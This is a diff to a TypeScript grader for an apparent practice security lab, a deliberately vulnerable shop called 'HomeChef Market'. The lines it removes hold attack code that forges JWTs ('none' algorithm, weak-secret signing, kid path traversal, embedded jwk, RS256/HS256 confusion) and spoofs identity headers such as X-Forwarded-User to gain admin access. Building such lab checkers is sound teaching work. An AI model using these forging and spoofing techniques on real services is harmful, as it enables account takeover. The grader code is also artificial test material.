@@ -1,39 +1,17 @@
-import { createHmac } from 'node:crypto';
-import type { Reply } from '../../lib/call.ts';
 import { guestForm, line } from '../../lib/market.ts';
 import {
-  accountNow,
   all,
   any,
-  changes,
+  asking,
+  isIn,
   letIn,
+  logIn,
   saying,
   succeeded,
   type Challenge,
   type Shop,
   type Try,
 } from './shop.ts';
-
-const logIn = (email: string, password: unknown, headers: Record<string, string> = {}): Try => [
-  'post',
-  '/api/users/login',
-  { body: { email, password }, headers },
-];
-
-const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
-/** A token that was signed with something else than the secret. */
-function forged(sub: string, header: object, key?: string | Buffer): string {
-  const now = Math.floor(Date.now() / 1_000);
-  const claims = { sub, ver: 0, iat: now, exp: now + 9_999, iss: 'homechef-market', aud: 'homechef-market' };
-  const body = `${part({ typ: 'JWT', ...header })}.${part(claims)}`;
-  return `${body}.${key === undefined ? '' : createHmac('sha256', key).update(body).digest('base64url')}`;
-}
-const asking = (token: string): Try[] => [
-  ['get', '/api/users/profile', { token }],
-  ['get', '/api/users', { token }],
-  ['get', '/api/orders', { token }],
-  ['get', '/api/orders/myorders', { token }],
-];
 
 const resets = (email: string, password: string): Try[] =>
   [
@@ -55,13 +33,6 @@ async function isTaken(shop: Shop, password: string): Promise<boolean> {
   const [taken, own] = await all(shop, [logIn(member.email, password), logIn(member.email, memberPassword)]);
   return (taken ? succeeded(taken) : true) || (own ? !succeeded(own) : true);
 }
-
-const isIn = ({ status }: Reply) => status === 200;
-const addressed = (headers: Record<string, string>): Try[] => [
-  ['get', '/api/users/profile', { headers }],
-  ['get', '/api/users', { headers }],
-  ['get', '/api/orders', { headers }],
-];
 
 /** Who one is, and who one says one is. */
 export const accounts: readonly Challenge[] = [
@@ -91,68 +62,6 @@ export const accounts: readonly Challenge[] = [
         .map(({ body }) => body as { token?: string })
         .map(({ token = '' }): Try => ['get', '/api/orders', { token }]);
       return replies.some(saying('"isAdmin":true')) || any(shop, lists, isIn);
-    },
-  },
-  {
-    name: 'Unsigned JWT',
-    tried: 'show a token that says it needs no signature',
-    sign: 'an answer as that account',
-    solved: (shop) => {
-      const none = ['none', 'None', 'NONE', 'nOnE', ''].map((alg) => forged(shop.admin._id, { alg }));
-      return any(shop, none.flatMap(asking), isIn);
-    },
-  },
-  {
-    name: 'Forged Signed JWT',
-    tried: 'sign a token with what anybody knows: words of the product, its description, a weak secret',
-    sign: 'an answer as that account',
-    solved: async (shop) => {
-      const { market, admin } = shop;
-      const { text } = await market.call('get', '/api/openapi.json');
-      const keys = [
-        '',
-        'secret',
-        'homechef-market',
-        'HomeChef Market',
-        'x'.repeat(32),
-        '\0',
-        'undefined',
-        text,
-        admin._id,
-      ];
-      const signed = keys.map((key) => forged(admin._id, { alg: 'HS256' }, key));
-      const named = forged(admin._id, { alg: 'HS256', kid: '../../../dev/null' }, '');
-      const brought = forged(admin._id, { alg: 'HS256', jwk: { kty: 'oct', k: 'eA' } }, 'x');
-      const asymmetric = forged(admin._id, { alg: 'RS256' }, text);
-      return any(shop, [...signed, named, brought, asymmetric].flatMap(asking), isIn);
-    },
-  },
-  {
-    name: 'Login CISO',
-    tried: 'name the account in a header, as a server behind another one might believe',
-    sign: 'an answer as that account',
-    solved: (shop) => {
-      const { email, _id } = shop.admin;
-      const headers = [
-        'X-User-Email',
-        'X-User',
-        'X-Forwarded-User',
-        'X-Forwarded-Email',
-        'X-Remote-User',
-        'X-Original-User',
-      ];
-      const tries = headers.flatMap((name) => [
-        ...addressed({ [name]: email }),
-        ...addressed({ [name]: _id }),
-      ]);
-      const basic = Buffer.from(`${email}:`).toString('base64');
-      const others = [`Basic ${basic}`, `Bearer ${_id}`, 'Bearer undefined', 'Bearer null', `Token ${_id}`];
-      const signIn = logIn(shop.member.email, 'wrong words', { 'X-User-Email': email });
-      return any(
-        shop,
-        [...tries, ...others.flatMap((Authorization) => addressed({ Authorization })), signIn],
-        isIn,
-      );
     },
   },
   {
@@ -333,18 +242,6 @@ export const accounts: readonly Challenge[] = [
       const kept = found.map(({ passwordHash }) => String(passwordHash));
       const isSlow = kept.every((hash) => /^\$2b\$1\d\$/.test(hash));
       return !isSlow || kept[0] === kept[1] || JSON.stringify(found).includes(password);
-    },
-  },
-  {
-    name: 'Two Factor Authentication',
-    tried: 'look for what would let one sign in as somebody in their answers',
-    sign: 'a hash, a version of the token, a secret',
-    solved: async (shop) => {
-      const tokens = [shop.admin.token, shop.thief.token];
-      const paths = ['/api/users', '/api/users/profile', '/api/orders', '/api/products?drafts=1'];
-      const tries = tokens.flatMap((token) => paths.map((path): Try => ['get', path, { token }]));
-      const isThere = await any(shop, tries, saying(/password|tokenVersion|\$2b\$|secret/i));
-      return isThere || (await changes(shop, tries, accountNow));
     },
   },
 ];
